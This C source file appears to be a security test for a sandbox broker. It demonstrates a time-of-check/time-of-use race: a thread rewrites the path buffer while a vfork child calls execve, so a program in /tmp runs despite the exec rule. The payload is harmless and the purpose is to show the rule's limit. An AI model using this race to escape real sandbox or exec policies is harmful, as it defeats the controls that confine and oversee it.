// The exec rule's check and the kernel's use of the path are two reads of the
// workload's memory: the broker reads the path, judges it and lets the call
// go on (CONTINUE), then the kernel reads the path again. A thread of the
// parent rewrites the buffer between the two, while a vfork child, which
// shares the parent's memory, calls execve on it: the broker judges one path
// and the kernel runs the other. docs/security.md states the rule as an
// observation; this shows why.
//   exec-race
// Copies itself to ./zr-ws-ID/zr (the workspace: strict runs programs from
// there) and /tmp/zr-ID/zr (strict runs none from there), ID a number of the
// run's own (default and observe share the host's /tmp; it is removed at the
// end). Run as "zr child" it reports where it runs from: from /tmp it appends
// a line to ./ran-from-tmp (the test reads the file on the host) and exits
// 42, from the workspace it exits 7.
// Lines: "honest-tmp" and "honest-ws" (an exec of each path, no race), then
// "race tries=N tmp=T ws=W refused=R other=O" (and "first-other CODE").
#include "attack.h"

#include <pthread.h>
#include <stdatomic.h>
#include <stdint.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <time.h>

// The two paths differ only in their first aligned 8-byte word ("/tmp/zr-"
// and "./zr-ws-"), so that one store switches the whole path and the kernel
// never reads half of each.
static _Alignas(8) char path[64];
static uint64_t tmp_word, ws_word;
static atomic_int stop;

static void* flip(void* arg) {
  (void)arg;
  volatile uint64_t* word = (volatile uint64_t*)path;
  while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
    *word = ws_word;
    *word = tmp_word;
  }
  return NULL;
}

/** The exit status of an exec of `file` from a vfork child: 42 /tmp, 7 workspace, 13 refused (EACCES), 100 + errno for another errno. */
static int run(const char* file) {
  char* const argv[] = {"zr", "child", NULL};
  pid_t pid = vfork();
  if (pid == 0) {
    execve(file, argv, environ);
    _exit(errno == EACCES ? 13 : 100 + errno);
  }
  int status = 0;
  if (pid < 0 || waitpid(pid, &status, 0) != pid || !WIFEXITED(status)) return -1;
  return WEXITSTATUS(status);
}

static void honest(const char* name, const char* file, int ran) {
  int code = run(file);
  if (code == ran) {
    say("%s ok", name);
  } else if (code == 13) {
    say("%s errno EACCES", name);
  } else {
    say("%s other %d", name, code);
  }
}

int main(int argc, char** argv) {
  if (argc > 1 && strcmp(argv[1], "child") == 0) {
    char exe[256];
    ssize_t n = readlink("/proc/self/exe", exe, sizeof(exe) - 1);
    if (n > 0 && strncmp(exe, "/tmp/", 5) == 0) {
      int fd = open("ran-from-tmp", O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0644);
      if (fd >= 0) {
        if (write(fd, "tmp\n", 4) != 4) _exit(1);
        close(fd);
      }
      _exit(42);
    }
    _exit(7);
  }
  char tmp_dir[32], ws_dir[32], tmp_prog[40], ws_prog[40];
  const unsigned id = (unsigned)getpid() * 2654435761u;
  snprintf(tmp_dir, sizeof(tmp_dir), "/tmp/zr-%08x", id);
  snprintf(ws_dir, sizeof(ws_dir), "./zr-ws-%08x", id);
  snprintf(tmp_prog, sizeof(tmp_prog), "%s/zr", tmp_dir);
  snprintf(ws_prog, sizeof(ws_prog), "%s/zr", ws_dir);
  if (mkdir(tmp_dir, 0755) != 0 || mkdir(ws_dir, 0755) != 0 || copy_self(ws_prog) != 0 || copy_self(tmp_prog) != 0) {
    outcome("copies", -1);
    return 1;
  }
  memcpy(&tmp_word, tmp_prog, 8);
  memcpy(&ws_word, ws_prog, 8);
  memcpy(path, tmp_prog, strlen(tmp_prog) + 1);
  honest("honest-tmp", tmp_prog, 42);
  honest("honest-ws", ws_prog, 7);

  pthread_t flipper;
  if (pthread_create(&flipper, NULL, flip, NULL) != 0) {
    outcome("flipper", -1);
    return 1;
  }
  long tries = 0, tmp = 0, ws = 0, refused = 0, other = 0;
  int first_other = 0;
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  // Enough wins to show it and tries enough for the rule to have seen the
  // path in /tmp too, bounded in tries and time.
  while ((tmp < 3 || tries < 200) && tries < 20000) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    if (now.tv_sec - start.tv_sec > 20) break;
    tries++;
    int last = run(path);
    switch (last) {
      case 42:
        tmp++;
        break;
      case 7:
        ws++;
        break;
      case 13:
        refused++;
        break;
      default:
        if (other++ == 0) first_other = last;
    }
  }
  atomic_store(&stop, 1);
  pthread_join(flipper, NULL);
  unlink(tmp_prog);
  rmdir(tmp_dir);
  say("race tries=%ld tmp=%ld ws=%ld refused=%ld other=%ld", tries, tmp, ws, refused, other);
  if (other > 0) say("first-other %d", first_other);
  say("finished ok");
  return 0;
}
